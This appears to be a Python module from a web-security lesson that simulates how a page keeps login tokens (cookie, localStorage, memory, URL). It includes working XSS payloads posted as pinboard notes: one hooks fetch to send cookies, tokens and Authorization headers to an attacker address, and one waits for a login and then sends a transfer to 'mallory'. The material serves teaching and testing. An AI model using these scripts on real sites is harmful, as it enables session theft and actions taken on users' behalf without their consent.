"""Lesson 10: the scripts in the pages, each written twice: in JavaScript for a browser, and in Python.

The Python twins are for `browser_model`, which can't run JavaScript. It recognises a script by its text, so it can run
only these.
"""

from collections.abc import Callable
from typing import Protocol

Fetch = Callable[[str, str, dict[str, str], dict[str, str] | str], str]
"""Takes path, method, headers and body; returns the answer's text."""


class Window(Protocol):
    """The parts of a page that these scripts use. `browser_model.Window` has them."""

    texts: dict[str, str]
    values: dict[str, str]
    buttons: dict[str, Callable[[], None]]
    script_data: dict[str, str]
    once_logged_in: list[Callable[[], None]]
    fetch: Fetch

    @property
    def search(self) -> str:
        """The query of the page's address, with its question mark."""

    @property
    def cookie(self) -> str:
        """The value of document.cookie."""

    @property
    def local(self) -> dict[str, str]:
        """The origin's localStorage."""

    def text_of(self, page: str) -> str:
        """The text of the status in another page's HTML."""

    def go(self, path: str) -> None:
        """Set location.href."""

    def submit(self) -> None:
        """Submit the page's first form."""

    def follow(self) -> None:
        """Click the page's first link."""


TWINS: dict[str, Callable[[Window], None]] = {}
"""By each script's text, the function that the model calls instead."""


def _script(text: str, twin: Callable[[Window], None]) -> str:
    TWINS[text.strip()] = twin
    return text.strip()


# -- the tool library's own page -----------------------------------------------------------------------------------

_PAGE = """{
  const $ = (id) => document.getElementById(id);
  const ready = () => { document.body.dataset.ready = ""; };
  const post = async (path, fields) => {
    const options = {method: "POST", headers: headers(), body: new URLSearchParams(fields)};
    return (await fetch(address(path), options)).text();
  };
  %s
  $("login").onclick = async () => {
    const moving = keep(await post("/login", {user: "ada"}));
    if (moving) return;
    $("user").textContent = "ada";
    ready();
  };
  $("give").onclick = async () => {
    const answer = await post("/give", {to: $("to").value});
    $("status").textContent = new DOMParser().parseFromString(answer, "text/html").body.textContent;
    ready();
  };
}"""

_KEEPERS = {
    "cookie": """
  const keep = () => false;  // the browser has it
  const headers = () => ({});
  const address = (path) => path;""",
    "localStorage": """
  const keep = (token) => { localStorage.token = token; return false; };
  const headers = () => ({Authorization: "Bearer " + localStorage.token});
  const address = (path) => path;""",
    "memory": """
  let token = "";  // no other script can see this variable
  const keep = (text) => { token = text; return false; };
  const headers = () => ({Authorization: "Bearer " + token});
  const address = (path) => path;""",
    "url": """
  const keep = (token) => { location.href = "/?token=" + token; return true; };
  const headers = () => ({});
  const address = (path) => path + location.search;""",
}


def page_script(keep: str) -> str:
    """The page's script for this way to keep a token; all that begin with "cookie" are one."""
    return _PAGES["cookie" if keep.startswith("cookie") else keep]


def _page_twin(keep: str) -> Callable[[Window], None]:
    def twin(window: Window) -> None:
        memory = {"token": ""}

        def headers() -> dict[str, str]:
            kept = {"localStorage": window.local.get("token", "undefined"), "memory": memory["token"]}
            return {"Authorization": f"Bearer {kept[keep]}"} if keep in kept else {}

        def post(path: str, fields: dict[str, str]) -> str:
            search = window.search if keep == "url" else ""
            return window.fetch(path + search, "POST", headers(), fields)

        def login() -> None:
            token = post("/login", {"user": "ada"})
            if keep == "url":
                window.go(f"/?token={token}")
                return
            if keep == "localStorage":
                window.local["token"] = token
            memory["token"] = token
            window.texts["user"] = "ada"

        def give() -> None:
            window.texts["status"] = window.text_of(post("/give", {"to": window.values["to"]}))

        window.buttons |= {"login": login, "give": give}

    return twin


_PAGES = {keep: _script(_PAGE % lines.strip(), _page_twin(keep)) for keep, lines in _KEEPERS.items()}


# -- the attacker's own pages -----------------------------------------------------------------------------------------

SUBMIT = _script("document.forms[0].submit()", lambda window: window.submit())
FOLLOW = _script("document.links[0].click()", lambda window: window.follow())


# -- notes on the pinboard, by which an attacker injects scripts into the page ----------------------------------------

_THEFT = """
const loot = document.currentScript.dataset.to;
const honest = window.fetch;
window.fetch = (path, options) => {
  const found = [document.cookie, localStorage.token, location.search, options.headers.Authorization];
  honest(loot, {method: "POST", mode: "no-cors", body: found.join("\\n")});
  return honest(path, options);
};
"""


def _theft_twin(window: Window) -> None:
    loot, honest = window.script_data["to"], window.fetch

    def spy(path: str, method: str, headers: dict[str, str], fields: dict[str, str] | str) -> str:
        found = [window.cookie, window.local.get("token", ""), window.search, headers.get("Authorization", "")]
        honest(loot, "POST", {}, "\n".join(found))
        return honest(path, method, headers, fields)

    window.fetch = spy


_RIDE = """
const timer = setInterval(() => {
  if (!document.getElementById("user").textContent) return;
  clearInterval(timer);
  document.getElementById("to").value = "mallory";
  document.getElementById("give").click();
}, 5);
"""


def _ride_twin(window: Window) -> None:
    def act() -> None:
        window.values["to"] = "mallory"
        window.buttons["give"]()

    window.once_logged_in.append(act)


THEFT = _script(_THEFT, _theft_twin)
RIDE = _script(_RIDE, _ride_twin)


def theft_note(loot: str) -> str:
    """A note that, at each request of the page, sends all tokens that it finds in the page to this address."""
    return f'Lovely drill! <script data-to="{loot}">{THEFT}</script>'


def ride_note() -> str:
    """A note that waits until somebody is logged in, and then presses the page's own button."""
    return f"Lovely saw! <script>{RIDE}</script>"
